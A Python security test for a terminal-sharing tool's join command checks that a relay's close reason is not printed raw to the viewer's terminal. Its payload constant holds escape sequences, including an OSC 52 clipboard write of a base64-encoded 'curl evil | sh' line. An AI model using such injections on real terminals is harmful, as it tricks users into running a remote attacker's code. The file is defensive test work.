"""Security review findings on `termshare join` (each test fails until fixed)."""

from __future__ import annotations

import asyncio
import os

from websockets.asyncio.server import serve

from termshare.protocol.envelope import encode_frame
from termshare.protocol.link import b64u_encode, parse_link
from termshare.protocol.wire import FrameKind
from termshare.viewer.session import JoinOptions, JoinSession

EVIL_REASON = "\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07\x1b]2;pwned\x07\x1b[2J"


def test_relay_close_reason_is_not_passed_raw_to_the_users_terminal() -> None:
    """ATTACK (terminal escape injection by the relay into the viewer's terminal).

    When the relay closes a viewer with 4403, `JoinSession._connection_loop` returns
    `ws.close_reason` as the user-facing message and `cli.py` prints it to stderr, i.e. the
    user's terminal, byte for byte. The close reason is chosen by the (untrusted) relay, so it can
    carry escape sequences: OSC 52 (write the clipboard: the next paste runs the relay's command),
    OSC 0/2 titles, screen clears, fake "termshare:" prompts, and on some terminals worse. The
    relay is the adversary (§10) and must only affect notices, not the viewer's terminal.

    Fix idea: never print relay-supplied text raw: map the close code to our own sentence, or
    strip everything outside printable ASCII/UTF-8 (no C0/C1 controls, no ESC) before printing.
    """

    async def scenario() -> tuple[int, str]:
        async def relay(ws) -> None:  # type: ignore[no-untyped-def]
            await ws.send(encode_frame(FrameKind.READY, b"\x01", 1))
            await ws.recv()  # the HELLO
            await ws.close(4403, EVIL_REASON)

        async with serve(relay, "127.0.0.1", 0) as server:
            port = server.sockets[0].getsockname()[1]
            sid = b64u_encode(os.urandom(12))
            link = parse_link(f"http://127.0.0.1:{port}/s/{sid}#r.{b64u_encode(os.urandom(32))}")
            read_fd, write_fd = os.pipe()
            null = os.open(os.devnull, os.O_RDONLY)
            try:
                session = JoinSession(JoinOptions(link=link, retry_seconds=0.5), in_fd=null, out_fd=write_fd)
                return await asyncio.wait_for(session.run(), 5)
            finally:
                for fd in (read_fd, write_fd, null):
                    os.close(fd)

    status, message = asyncio.run(scenario())
    assert "\x1b" not in message and "\x07" not in message, (
        f"the relay's close reason reaches the user's terminal raw: {message!r}"
    )
